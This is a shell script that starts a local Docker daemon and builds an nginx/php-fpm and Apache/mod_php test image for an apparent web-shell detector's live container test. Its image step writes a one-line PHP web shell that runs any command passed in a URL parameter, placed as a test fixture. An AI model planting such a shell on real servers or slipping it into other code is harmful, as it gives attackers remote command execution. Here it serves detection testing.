#!/usr/bin/env bash
# Start or stop a Docker daemon for webshellbeat's live container test
# (tests/live_docker_test.go), with an image of nginx + php-fpm and Apache +
# mod_php built from this machine's own binaries (no registry is reachable
# here: the image is a root filesystem of the host's nginx, php-fpm 8.x,
# apache2 with mod_php, dash and coreutils' id, with the libraries ldd
# names, given to `docker import`). Needs root, docker.io (dockerd) and the
# packages .ci/linux-e2e.sh installs.
#
#   testing/docker/run.sh start   start dockerd on $DOCKER_HOST (a socket in
#                                 target/), build the image wsb-web:test
#   testing/docker/run.sh stop    remove the test's containers, stop dockerd
#
# The image runs php-fpm and nginx as the php:fpm and nginx images do:
# nginx's access log on stdout and its error log on stderr, php-fpm's log on
# stderr with its workers' output caught and undecorated; or Apache as the
# php:apache image does. The test starts the containers, on the host's
# network (nginx 127.0.0.1:18095, Apache 127.0.0.1:18096).
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
target="$here/target"
sock="$target/docker.sock"
pidfile="$target/dockerd.pid"
log="$target/dockerd.log"
export DOCKER_HOST="${DOCKER_HOST:-unix://$sock}"

running() {
  [ -f "$pidfile" ] && kill -0 "$(cat "$pidfile")" 2>/dev/null
}

image() {
  local root="$target/rootfs"
  rm -rf "$root"
  mkdir -p "$root"/{etc,tmp,srv/www}
  chmod 1777 "$root/tmp"
  local fpm
  fpm=$(ls /usr/sbin/php-fpm* 2>/dev/null | sort -V | tail -n1)
  [ -n "$fpm" ] && [ -x /usr/sbin/nginx ] ||
    { echo "docker: no /usr/sbin/nginx or /usr/sbin/php-fpm*: run .ci/linux-e2e.sh first" >&2; exit 1; }
  local php_mod
  php_mod=$(ls /usr/lib/apache2/modules/libphp*.so 2>/dev/null | sort -V | tail -n1)
  [ -n "$php_mod" ] && [ -x /usr/sbin/apache2 ] ||
    { echo "docker: no /usr/sbin/apache2 or mod_php: run .ci/linux-e2e.sh first" >&2; exit 1; }
  local b l
  for b in /usr/sbin/nginx "$fpm" /usr/sbin/apache2 /usr/lib/apache2/modules/mod_mpm_prefork.so \
    /usr/lib/apache2/modules/mod_authz_core.so "$php_mod" /bin/sh /usr/bin/id; do
    mkdir -p "$root$(dirname "$b")"
    cp -L "$b" "$root$b"
    for l in $(ldd "$b" | grep -o '/[^ ]*'); do
      mkdir -p "$root$(dirname "$l")"
      cp -L "$l" "$root$l"
    done
  done
  ln -s "$(basename "$fpm")" "$root/usr/sbin/php-fpm"
  printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' >"$root/etc/passwd"
  printf 'root:x:0:\nwww-data:x:33:\n' >"$root/etc/group"
  cat >"$root/etc/nginx.conf" <<'CONF'
user www-data;
error_log /dev/stderr notice;
pid /tmp/nginx.pid;
events {}
http {
  access_log /dev/stdout;
  client_body_temp_path /tmp/body; proxy_temp_path /tmp/proxy; fastcgi_temp_path /tmp/fastcgi;
  uwsgi_temp_path /tmp/uwsgi; scgi_temp_path /tmp/scgi;
  server {
    listen 127.0.0.1:18095;
    root /srv/www;
    location ~ \.php$ {
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
      fastcgi_param QUERY_STRING $query_string;
      fastcgi_param REQUEST_METHOD $request_method;
      fastcgi_pass 127.0.0.1:19000;
    }
  }
}
CONF
  # As the php:fpm image's docker.conf: the log and the access log on
  # stderr, the workers' output caught and passed on as it is.
  cat >"$root/etc/php-fpm.conf" <<'CONF'
[global]
error_log = /proc/self/fd/2
daemonize = no
[www]
user = www-data
group = www-data
listen = 127.0.0.1:19000
pm = static
pm.max_children = 1
access.log = /proc/self/fd/2
catch_workers_output = yes
decorate_workers_output = no
CONF
  # Apache + mod_php as the php:apache image runs it: the access log on
  # stdout, the error log on stderr, where mod_php's commands write theirs.
  cat >"$root/etc/apache2.conf" <<CONF
ServerName wsb-apache
Listen 127.0.0.1:18096
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule php_module $php_mod
User www-data
Group www-data
PidFile /tmp/apache2.pid
Mutex file:/tmp
ErrorLog /proc/self/fd/2
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog /proc/self/fd/1 combined
DocumentRoot /srv/www
<FilesMatch "\.php\$">
    SetHandler application/x-httpd-php
</FilesMatch>
CONF
  echo '<?php system($_GET["c"]); ?>' >"$root/srv/www/shell.php"
  chmod -R a+rX "$root/srv"
  tar -C "$root" -cf "$target/rootfs.tar" .
  docker import "$target/rootfs.tar" wsb-web:test >/dev/null
  rm -rf "$root" "$target/rootfs.tar"
}

start() {
  mkdir -p "$target"
  if ! docker info >/dev/null 2>&1; then
    command -v dockerd >/dev/null || { echo "docker: no dockerd (apt-get install docker.io)" >&2; exit 1; }
    # No bridge, no iptables, the vfs driver: what runs inside a CI
    # container; the test's container uses the host's network.
    nohup dockerd --iptables=false --bridge=none --storage-driver=vfs \
      --data-root "$target/data" --exec-root "$target/exec" --pidfile "$target/exec/dockerd.pid" \
      -H "$DOCKER_HOST" >"$log" 2>&1 </dev/null &
    echo $! >"$pidfile"
    for _ in $(seq 60); do
      docker info >/dev/null 2>&1 && break
      running || { echo "docker: dockerd exited; last lines of $log:" >&2; tail -20 "$log" >&2; exit 1; }
      sleep 1
    done
    docker info >/dev/null 2>&1 || { echo "docker: dockerd did not answer in 60 s; see $log" >&2; exit 1; }
  fi
  image
  echo "docker: $DOCKER_HOST, image wsb-web:test"
}

stop() {
  if docker info >/dev/null 2>&1; then
    docker ps -aq --filter label=webshellbeat-test | xargs -r docker rm -f >/dev/null || true
  fi
  if running; then
    kill "$(cat "$pidfile")"
    for _ in $(seq 30); do running || break; sleep 1; done
    rm -f "$pidfile"
    echo "docker: stopped"
  fi
  # dockerd leaves its network namespace mounted in its exec root, which
  # would keep the folder from being removed.
  awk -v t="$target/" 'index($2, t) == 1 {print $2}' /proc/mounts | sort -r |
    while read -r m; do umount "$m" 2>/dev/null || umount -l "$m" || true; done
}

case "${1:-}" in
  start) start ;;
  stop) stop ;;
  *) echo "usage: $0 start|stop" >&2; exit 2 ;;
esac
